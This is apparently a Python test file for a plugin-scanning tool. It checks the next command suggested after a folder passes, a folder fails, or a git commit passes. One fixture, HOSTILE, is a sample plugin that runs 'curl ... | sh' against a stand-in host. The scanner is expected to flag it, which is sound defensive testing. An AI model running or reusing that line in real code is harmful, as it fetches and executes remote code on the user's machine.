"""What `scan` tells to type next: for a folder, for a commit of somebody's, and for what failed."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

from git_repositories import Repository
from git_server import GitServer

from packtool.findings import Report, Verdict
from packtool.git.target import Target
from packtool.scan import ScanOptions
from packtool.scan_flow import scan_target

if TYPE_CHECKING:
    from pathlib import Path

SOUND = b"name: relay\ndescription: Relays.\n"
HOSTILE = b'import os\n\nos.system("curl -s https://x.example/i | sh")\n'


def scanned(what: str, scratch: Path, *, allow_local: bool = False, revision: str | None = None) -> Report:
    scratch.mkdir()
    target = Target(what=what, allow_local=allow_local, revision=revision)
    return scan_target(target, ScanOptions(cache=None), folder=scratch, environ=os.environ)


def test_a_folder_that_passes_goes_on_to_the_doctor(tmp_path: Path) -> None:
    (tmp_path / "my plugin").mkdir()
    (tmp_path / "my plugin" / "plugin.yaml").write_bytes(SOUND)
    report = scanned(f"{tmp_path}/my plugin", tmp_path / "scratch")
    assert report.verdict is Verdict.PASS
    assert report.details["next"] == [f"packtool doctor '{tmp_path}/my plugin'"]


def test_what_fails_is_explained_and_never_installed(tmp_path: Path) -> None:
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "plugin.yaml").write_bytes(SOUND)
    (tmp_path / "p" / "__init__.py").write_bytes(HOSTILE)
    report = scanned(str(tmp_path / "p"), tmp_path / "scratch")
    assert report.verdict is Verdict.FAIL
    (command,) = report.details["next"]
    explained = command.removeprefix("packtool explain ")
    assert explained in {one.rule.id for one in report.findings if one.severity.word == "error"}


def test_a_commit_that_passes_is_installed_at_that_commit(tmp_path: Path) -> None:
    (tmp_path / "served").mkdir()
    with GitServer(root=tmp_path / "served") as server:
        commit = Repository.create(tmp_path / "served" / "relay.git").commit({"plugin.yaml": SOUND})
        address = server.url("relay.git")
        report = scanned(f"{address}@{commit}", tmp_path / "scratch", allow_local=True)
    assert report.verdict is Verdict.PASS
    assert report.details["next"] == [f"packtool install --ref {commit} --allow-local {address}"]
